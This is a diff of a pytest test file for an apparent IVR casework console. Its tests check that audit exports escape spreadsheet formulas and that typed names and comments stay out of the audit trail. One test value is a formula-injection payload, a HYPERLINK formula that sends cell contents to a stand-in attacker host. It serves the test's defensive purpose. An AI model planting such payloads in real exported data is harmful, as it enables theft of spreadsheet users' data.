@@ -12,6 +12,7 @@ import pytest
 from sqlalchemy import select, text, update
 
 from ivr import audit
+from ivr.accounts import add_user
 from ivr.audio import clean
 from ivr.casework.workflow import claim_next
 from ivr.console.playback import RangeNotSatisfiable, parse_range
@@ -144,10 +145,14 @@ def test_many_handlers_claiming_at_once_never_share_a_report(postgres_url: str) 
     assert len(claims) == 60 and len(set(claims)) == 60  # every report claimed once, none twice
 
 
-def test_the_audit_export_shows_formulas_as_text(ingest_app: Any, as_role: Any) -> None:
-    # Given someone who tried to sign in with a spreadsheet formula as their name
-    attacker = ingest_app.test_client()
+def test_the_audit_export_shows_formulas_as_text(
+    ingest_app: Any, as_role: Any, db: Database
+) -> None:
+    # Given an account whose name is a spreadsheet formula, and a failed sign-in as it
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    with db.transaction() as session:
+        add_user(session, formula, Role.HANDLER, "admin-one")
+    attacker = ingest_app.test_client()
     attacker.post(
         "/console/sign-in",
         data={"csrf_token": csrf_token(attacker), "name": formula, "password": "x", "code": "1"},
@@ -159,3 +164,37 @@ def test_the_audit_export_shows_formulas_as_text(ingest_app: Any, as_role: Any) 
     actors = [row[2] for row in rows[1:]]
     assert "'" + formula in actors
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
+
+
+def test_nothing_anyone_typed_goes_into_the_audit_trail(
+    ingest_app: Any, as_role: Any, db: Database, queued_report: str
+) -> None:
+    # Given a stranger typing a name at the sign-in form, and a report returned with a comment
+    stranger = ingest_app.test_client()
+    stranger.post(
+        "/console/sign-in",
+        data={
+            "csrf_token": csrf_token(stranger),
+            "name": "Jo Bloggs 07700 900461",
+            "password": "x",
+            "code": "1",
+        },
+    )
+    with db.transaction() as session:
+        report = session.scalars(select(Report).where(Report.reference == queued_report)).one()
+        report.status, report.submitted_by = ReportStatus.SUBMITTED, None
+    supervisor = as_role(Role.SUPERVISOR)
+    page = f"/console/reports/{queued_report}"
+    post(
+        supervisor,
+        f"{page}/review",
+        {"decision": "return", "comment": "Remove Acacia Avenue"},
+        page=page,
+    )
+    # Then the trail records who did what, by ids and action names only
+    with db.transaction() as session:
+        trail = [(e.actor, e.action, e.detail) for e in audit.events(session)]
+    assert ("(unknown name)", "sign_in_failed", "") in trail
+    assert ("supervisor-one", "return", "") in [(a, b, c) for a, b, c in trail]
+    flat = repr(trail)
+    assert "Jo Bloggs" not in flat and "Acacia" not in flat
